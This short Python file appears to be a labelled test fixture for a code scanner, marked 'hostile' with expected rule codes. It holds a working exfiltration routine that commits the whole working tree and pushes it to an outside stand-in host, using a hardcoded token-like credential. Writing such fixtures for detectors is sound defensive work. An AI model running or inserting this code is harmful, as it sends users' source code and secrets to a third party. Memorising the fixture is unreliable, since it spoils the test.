# label: hostile
# expect: V201 V802
# note: Pushes the working tree to a stranger's repository with a token that stands in the source.
import subprocess

TOKEN = "ghp_R7mK2xQvT9bLpZc4WnY8sJdF3hGa6UeXo1Vi"
REMOTE = f"https://x:{TOKEN}@git.example.net/drop/in.git"

for args in (
    ["init", "-q"],
    ["add", "-A"],
    ["-c", "user.name=x", "-c", "user.email=x@example.net", "commit", "-qm", "x"],
    ["push", "-q", REMOTE, "HEAD:refs/heads/job"],
):
    subprocess.run(["git", *args], check=False)
